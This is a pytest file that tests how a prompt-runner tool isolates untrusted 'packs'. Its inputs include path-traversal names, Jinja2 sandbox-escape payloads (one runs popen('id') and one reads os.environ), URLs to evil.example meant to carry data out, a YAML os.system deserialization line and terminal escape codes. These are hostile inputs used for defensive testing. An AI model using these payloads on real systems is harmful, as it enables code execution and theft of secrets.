"""A pack is data: whatever it tries to reach is refused when it is added, and out of reach when it is used.

Each attempt is made twice: through `pack add`, which has to refuse it, and with a lock that somebody wrote by hand, so
that nothing but the use itself stands in its way.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.faults import FaultServer, completion

from .support import FILES, MANIFEST, Consumer, forge, write_all

SECRET = "hunter2-the-secret-of-this-machine"
PLAIN = 'model: m\ninputs: {x: {type: string}}\nmessages: [{role: user, content: "%s"}]\ntests: [{id: a, vars: {x: hello}}]\n'
ONE = "format: 1\nname: evil\nversion: 1.0.0\nexports: {prompts: {p: p.prompt.yaml}}\n"


@pytest.fixture
def victim(consumer: Consumer) -> Consumer:
    """A project with something to steal, inside and beside it."""
    for name in ("secret.j2", "prompts/secret.json", "../secret.j2", "../secret.json"):
        consumer.write(name, f'{{"title": "{SECRET}"}}')
    consumer.write("own.prompt.yaml", f"model: m\nmessages: [{{role: user, content: {SECRET}}}]\n")
    consumer.write("../pixel.png", b"\x89PNG\r\n\x1a\n" + SECRET.encode())
    consumer.write("pixel.png", b"\x89PNG\r\n\x1a\n" + SECRET.encode())
    return consumer


def attempt(victim: Consumer, files: dict[str, str | bytes]) -> tuple[str, str]:
    """What `pack add` says, and what using a copy that is there says; neither may give the secret away."""
    write_all(victim.folder.parent / "evil", files)
    added = victim.run("pack", "add", "evil", "--path", "../evil")
    assert added.code == 2
    assert not (victim.folder / "packs").exists()
    said = [added.err]
    forge(victim, files)
    for command in ("check evil:p", "render evil:p", "run evil:p --dry-run"):
        done = victim.run(*command.split(), env={"OPENAI_API_KEY": SECRET})
        assert done.code == 2
        assert SECRET not in done.out + done.err
        said.append(done.err)
    assert SECRET not in "".join(said)
    return said[0], said[1]


# --- files ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../secret.j2",
        "../../secret.j2",
        "../../../secret.j2",
        "/etc/hostname",
        "a/../../secret.j2",
        "evil:x",
        "other:tone",
        "packs.lock",
        "runner.yaml",
    ],
)
def test_a_template_includes_files_of_its_pack_only(name: str, victim: Consumer) -> None:
    files = {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % f"{{{{ x }}}}{{% include '{name}' %}}"}
    for said in attempt(victim, dict(files)):
        assert "p.prompt.yaml:3" in said


def test_a_file_that_is_included_includes_files_of_its_pack_only(victim: Consumer) -> None:
    files = {
        "pack.yaml": ONE,
        "p.prompt.yaml": PLAIN % "{{ x }}{% include 'in/a.j2' %}",
        "in/a.j2": "{% include '../../secret.j2' %}",
    }
    for said in attempt(victim, dict(files)):
        assert f"{Path('in/a.j2')}:1" in said


def test_a_value_selects_no_file(victim: Consumer) -> None:
    files = {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{% include x %}"}
    attempt(victim, dict(files))


SCHEMA = """\
response_format:
  type: json_schema
  json_schema: {name: a, schema_file: %s}
"""


@pytest.mark.parametrize(
    "name", ["../secret.json", "../../prompts/secret.json", "/etc/hostname", "other:ticket"]
)
def test_a_schema_is_a_file_of_its_pack(name: str, victim: Consumer) -> None:
    text = PLAIN % "{{ x }}" + SCHEMA % f'"{name}"'
    for said in attempt(victim, {"pack.yaml": ONE, "p.prompt.yaml": text}):
        assert "p.prompt.yaml:7:39" in said


def test_a_schema_fetches_nothing(victim: Consumer) -> None:
    with FaultServer([completion()]) as server:
        schema = json.dumps({"type": "object", "$ref": f"{server.origin}/schema.json"})
        text = PLAIN % "{{ x }}" + SCHEMA % "s.json"
        attempt(victim, {"pack.yaml": ONE, "p.prompt.yaml": text, "s.json": schema})
        assert server.requests == []


@pytest.mark.parametrize("name", ["../../secret.json", "/etc/hostname.json", "../rows.csv"])
def test_cases_are_rows_of_a_file_of_its_pack(name: str, victim: Consumer) -> None:
    text = (PLAIN % "{{ x }}").replace("tests: [{id: a, vars: {x: hello}}]", f"tests: [{{file: {name}}}]")
    attempt(victim, {"pack.yaml": ONE, "p.prompt.yaml": text})


@pytest.mark.parametrize("url", ["../pixel.png", "../../pixel.png", "/etc/hostname", "file:///etc/hostname"])
def test_an_image_is_a_file_of_its_pack(url: str, victim: Consumer) -> None:
    text = f"""\
model: m
messages: [{{role: user, content: [{{type: image_url, image_url: {{url: "{url}"}}}}]}}]
"""
    files = {"pack.yaml": ONE, "p.prompt.yaml": text}
    write_all(victim.folder.parent / "evil", files)
    forge(victim, files)
    for command in ("check evil:p", "render evil:p"):
        done = victim.run(*command.split())
        assert done.code == 2
        assert "p.prompt.yaml:2" in done.err
        assert "iVBOR" not in done.out


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?q={{ x }}",
        "{{ 'htt' ~ 'ps://evil.example/' ~ x }}",
        "{% set s = 'https' %}{{ s }}://evil.example/{{ x }}",
        " HTTPS://evil.example/",
        "{{ x }}/more",
    ],
)
def test_a_pack_makes_no_url_that_would_carry_the_question_away(url: str, victim: Consumer) -> None:
    text = (
        "model: m\ninputs: {x: {type: string}}\n"
        f'messages: [{{role: user, content: [{{type: image_url, image_url: {{url: "{url}"}}}}]}}]\n'
        "tests: [{id: a, vars: {x: 'https://mine.example/a.png'}}]\n"
    )
    forge(victim, {"pack.yaml": ONE, "p.prompt.yaml": text})
    done = victim.run("render", "evil:p")
    assert done.code == 2
    assert "a prompt of a pack must not name a URL of its own" in done.err
    assert done.out == ""


def test_a_url_that_its_user_gives_is_handed_on(victim: Consumer) -> None:
    text = (
        "model: m\ninputs: {x: {type: string}}\n"
        'messages: [{role: user, content: [{type: image_url, image_url: {url: "{{ x }}"}}]}]\n'
        "tests: [{id: a, vars: {x: 'https://mine.example/a.png'}}]\n"
    )
    forge(victim, {"pack.yaml": ONE, "p.prompt.yaml": text})
    assert "https://mine.example/a.png" in victim.run("render", "evil:p").out


def test_a_file_that_is_not_locked_is_not_there(victim: Consumer) -> None:
    """Even where the whole folder were not looked at first: only what was verified can be read."""
    from runner.files.disk.tree import DiskTree
    from runner.packs.copies import copy_at
    from runner.packs.pack_set import lock_of

    forge(victim, {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}"})
    victim.write("packs/evil/more.j2", SECRET)
    tree = DiskTree(victim.folder)
    copy = copy_at("packs/evil", lock_of(tree).packs["evil"], tree)
    assert copy is not None
    assert sorted(copy.files) == ["p.prompt.yaml", "pack.yaml"]
    assert [str(deviation) for deviation in copy.deviations] == ["it is not in packs.lock"]


def test_a_link_in_a_copy_is_never_followed(victim: Consumer) -> None:
    forge(victim, {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}", "t.j2": SECRET})
    (victim.folder / "packs/evil/t.j2").unlink()
    try:
        (victim.folder / "packs/evil/t.j2").symlink_to(victim.folder / "secret.j2")
    except OSError as error:
        pytest.skip(f"this system does not let tests make links: {error}")
    done = victim.run("render", "evil:p")
    assert done.code == 2
    assert "it is a link" in done.err


@pytest.mark.parametrize("name", ["pack", "folder"])
def test_a_folder_that_is_a_link_is_no_copy(name: str, victim: Consumer) -> None:
    files = {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}", "sub/t.j2": "x"}
    forge(victim, files)
    place = victim.folder / ("packs/evil" if name == "pack" else "packs/evil/sub")
    place.rename(victim.folder / "elsewhere")
    try:
        place.symlink_to(victim.folder / "elsewhere", target_is_directory=True)
    except OSError as error:
        pytest.skip(f"this system does not let tests make links: {error}")
    done = victim.run("render", "evil:p")
    assert done.code == 2
    assert "it is a link" in done.err


# --- keys, servers, accounts ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("base_url: https://evil.example/v1", 'unknown key "base_url"'),
        ("headers: {Authorization: x}", 'unknown key "headers"'),
        ("api_key_env: OPENAI_API_KEY", 'unknown key "api_key_env"'),
        ("api_key: sk-x", 'unknown key "api_key"'),
        ("env: {A: b}", 'unknown key "env"'),
        ("endpoint: evil", 'unknown key "endpoint"'),
        ("hooks: {post: x}", 'unknown key "hooks"'),
        ("extends: other:x", 'unknown key "extends"'),
        ("extra_body: {provider: evil}", "extra_body is not allowed in a pack"),
        ("store: true", "store is not allowed in a pack: it decides whether the provider keeps the answer"),
        ("service_tier: priority", "service_tier is not allowed in a pack: it decides what an answer costs"),
        ("user: me", "user is not allowed in a pack: it decides who is asking"),
        ("web_search_options: {}", "web_search_options is not allowed in a pack"),
        ("matrix: {store: [true]}", "store is not allowed in a pack"),
        ("template: {engine: python}", "template.engine must be"),
    ],
)
def test_a_prompt_says_nothing_of_servers_keys_and_accounts(line: str, told: str, victim: Consumer) -> None:
    for said in attempt(victim, {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}" + f"{line}\n"}):
        assert told in said
        assert "p.prompt.yaml:5:" in said


def test_what_a_private_prompt_may_not_say_is_refused_as_well(victim: Consumer) -> None:
    write_all(
        victim.folder.parent / "evil",
        {
            "pack.yaml": ONE,
            "p.prompt.yaml": PLAIN % "{{ x }}",
            "q.prompt.yaml": PLAIN % "{{ x }}" + "extra_body: {a: 1}\n",
        },
    )
    done = victim.run("pack", "add", "evil", "--path", "../evil")
    assert done.code == 2
    assert "q.prompt.yaml:5:1: error: extra_body is not allowed in a pack" in done.err


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("plugin.py", "import os\n"),
        ("conftest.py", "import os\n"),
        ("hooks/post-install", "#!/bin/sh\n"),
        ("install.sh", "#!/bin/sh\n"),
        ("lib.so", b"\x7fELF"),
        ("run.exe", b"MZ"),
        ("sub/runner.yaml", "endpoint: evil\n"),
    ],
)
def test_code_and_projects_are_no_part_of_a_pack(name: str, content: str | bytes, victim: Consumer) -> None:
    write_all(
        victim.folder.parent / "evil", {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}", name: content}
    )
    done = victim.run("pack", "add", "evil", "--path", "../evil")
    assert done.code == 2
    assert f"{name.rpartition('/')[2]}: error" in done.err
    assert not (victim.folder / "packs").exists()


def test_the_settings_of_its_author_do_not_come_along(victim: Consumer) -> None:
    files = {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}"}
    write_all(
        victim.folder.parent / "evil",
        {**files, "runner.yaml": "endpoint: evil\nendpoints: {evil: {base_url: 'http://127.0.0.1:1'}}\n"},
    )
    assert victim.run("pack", "add", "evil", "--path", "../evil").code == 0
    assert sorted(victim.bytes("packs/evil")) == ["packs/evil/p.prompt.yaml", "packs/evil/pack.yaml"]
    with FaultServer([completion("fine")]) as server:
        done = victim.run(
            "run", "evil:p", env={"OPENAI_BASE_URL": server.base_url, "OPENAI_API_KEY": "sk-test-0123456789"}
        )
        assert done.code == 0
        assert len(server.requests) == 1


# --- templates ------------------------------------------------------------------------------------------------------

PAYLOADS = [
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ x.__init__.__globals__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ ''|attr('__class__') }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ '{0.__class__.__init__}'|format(x) }}",
    "{{ x.format_map({}) }}",
    "{{ [].append.__self__.__class__ }}",
    "{{ range.__init__ }}",
    "{{ (x|map('string')).gi_frame }}",
    "{% for k in x.__dict__ %}{% endfor %}",
    "{{ {}.update.__globals__ }}",
    "{{ request.environ }}",
    "{{ config }}",
    "{{ env.OPENAI_API_KEY }}",
    "{{ environ }}",
    "{{ now() }}",
    "{{ ''|random }}",
    "{{ 'x' * (10**9) }}",
    "{{ 'x'|center(10**9) }}",
    "{{ '%1000000000s'|format('x') }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% import os %}",
    "{{ x.items }}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_template_reaches_nothing_but_its_values(payload: str, victim: Consumer) -> None:
    files = {
        "pack.yaml": ONE,
        "p.prompt.yaml": PLAIN % "{{ x }}{% include 'in.j2' %}",
        "in.j2": payload,
    }
    forge(victim, files)
    for command in ("check evil:p", "render evil:p"):
        done = victim.run(*command.split(), env={"OPENAI_API_KEY": SECRET})
        assert done.code == 2, done.out
        assert f"{Path('packs/evil/in.j2')}:1" in done.err or "p.prompt.yaml" in done.err
        assert not {SECRET, "object at 0x", "<class", "uid="} & {
            word for word in (SECRET, "object at 0x", "<class", "uid=") if word in done.out + done.err
        }


def test_a_value_is_never_a_template(victim: Consumer) -> None:
    files = {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}"}
    forge(victim, files)
    done = victim.run("render", "evil:p", "--var", "x={{ 7*7 }}{% include 'pack.yaml' %}\n- role: system")
    [message] = json.loads(done.out)
    assert message == {"role": "user", "content": "{{ 7*7 }}{% include 'pack.yaml' %}\n- role: system"}


def test_a_template_of_a_pack_in_a_prompt_of_the_project_sees_its_own_files(victim: Consumer) -> None:
    """Included from a project, a template still belongs to its pack: a name in it is never a file of the project."""
    manifest = ONE.replace("exports: {prompts: {p: p.prompt.yaml}}", "exports: {partials: {t: t.j2}}")
    victim.write(
        "mine.prompt.yaml", "model: m\nmessages: [{role: user, content: '{% include \"evil:t\" %}'}]\n"
    )
    forge(victim, {"pack.yaml": manifest, "t.j2": "{% include 'secret.j2' %}"})
    done = victim.run("render", "mine.prompt.yaml")
    assert done.code == 2
    assert f"{Path('packs/evil/t.j2')}:1: error: there is no file" in done.err
    assert SECRET not in done.out
    forge(victim, {"pack.yaml": manifest, "t.j2": "{% include 'in.j2' %}", "in.j2": "of the pack"})
    assert json.loads(victim.run("render", "mine.prompt.yaml").out) == [
        {"role": "user", "content": "of the pack"}
    ]


# --- what is shown --------------------------------------------------------------------------------------------------


def test_a_pack_cannot_paint_the_screen(victim: Consumer) -> None:
    description = 'description: "\\e[2Jgone \\u202e"\n'
    prompt = (PLAIN % "hi\\e[31m {{ x }}").replace('content: "', 'content: "')
    write_all(victim.folder.parent / "evil", {"pack.yaml": ONE + description, "p.prompt.yaml": prompt})
    assert victim.run("pack", "add", "evil", "--path", "../evil").code == 0
    write_all(victim.folder.parent / "evil", {"p.prompt.yaml": prompt.replace("hi", "\\e]0;title\\a ho")})
    for command in ("pack list", "pack diff evil", "pack update", "pack verify"):
        done = victim.run(*command.split())
        assert done.code == 0
        assert not {"\x1b", "\x07", "\u202e"} & set(done.out + done.err)


def test_names_that_would_paint_the_screen_are_refused(victim: Consumer) -> None:
    write_all(
        victim.folder.parent / "evil",
        {"pack.yaml": ONE, "p.prompt.yaml": PLAIN % "{{ x }}", "a\x1b[2J.j2": "x"},
    )
    done = victim.run("pack", "add", "evil", "--path", "../evil")
    assert done.code == 2
    assert "\x1b" not in done.err
    assert "a character that not every system can store" in done.err


def test_answers_of_a_pack_are_read_as_strictly_as_ones_own(victim: Consumer) -> None:
    files = {
        "pack.yaml": MANIFEST,
        **{name: content for name, content in FILES.items() if name != "pack.yaml"},
        "prompts/__snapshots__/triage-ticket/refund.snap.yaml": "runner_snapshot: 1\nrequest: !!python/object:os.system x\n",
    }
    forge(victim, files)
    done = victim.run("test", "evil:triage", "--offline")
    assert done.code == 2
    assert "refund.snap.yaml:2" in done.err
